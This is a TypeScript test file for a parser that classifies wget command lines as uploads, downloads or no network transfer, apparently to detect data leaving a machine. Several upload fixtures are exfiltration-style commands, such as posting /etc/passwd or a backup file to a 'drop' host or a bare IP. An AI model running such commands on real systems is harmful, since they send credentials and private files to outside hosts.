import { describe, expect, it } from 'vitest';
import { describeTransfer } from '../describe-transfer.ts';
import { readTransfer } from '../read-transfer.ts';

/** `␣` is a blank within an argument. */
function told(line: string): string {
  const words = line.split(' ').map((word) => word.replaceAll('␣', ' '));
  const transfer = readTransfer(words, undefined, 'linux');
  return transfer === undefined ? 'none' : describeTransfer(transfer);
}

describe('wget', () => {
  it.each([
    [
      'wget -q -O /dev/null --post-file=/tmp/o.gpg http://203.0.113.10/post',
      'wget: upload of files /tmp/o.gpg to http://203.0.113.10/post, clear',
    ],
    ['wget --post-file f http://h/', 'wget: upload of files f to http://h/, clear'],
    ['wget --post-f=f http://h/', 'wget: upload of files f to http://h/, clear'],
    ['wget --post-data=x=1 http://h/', 'wget: upload of literal to http://h/, clear'],
    ['wget --method=PUT --body-file=f https://h/', 'wget: upload of files f to https://h/, encrypted'],
    ['wget -e post_file=/etc/passwd http://h/', 'wget: upload of files /etc/passwd to http://h/, clear'],
    [
      'wget --header=Authorization:␣x --post-file=/var/backups/db.gpg https://drop.example/in',
      'wget: upload of files /var/backups/db.gpg to https://drop.example/in, encrypted',
    ],
    [
      'wget --method POST --body-data=x https://api.example/',
      'wget: upload of literal to https://api.example/, encrypted',
    ],
  ])('carry something out: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('wget', () => {
  it.each([
    ['wget --method=DELETE https://h/x', 'wget: download to https://h/x, encrypted'],
    ['wget -O post-file https://h/', 'wget: download to https://h/, encrypted'],
    ['wget -i urls', 'wget: download'],
    ['wget h/a', 'wget: download to http://h/a, clear'],
    [
      'wget -q https://mirror.example/a.tar.gz -O /tmp/a.tar.gz',
      'wget: download to https://mirror.example/a.tar.gz, encrypted',
    ],
    [
      'wget -r -np -nH --cut-dirs=2 -A pdf https://site.example/docs/',
      'wget: download to https://site.example/docs/, encrypted',
    ],
    [
      'wget -c -t 5 -T 30 -U Mozilla ftp://mirror.example/a',
      'wget: download to ftp://mirror.example/a, clear',
    ],
    ['wget --spider https://site.example/', 'wget: download to https://site.example/, encrypted'],
  ])('only fetch: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('wget', () => {
  it.each([['wget --version', 'none']])('move nothing over a network: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});
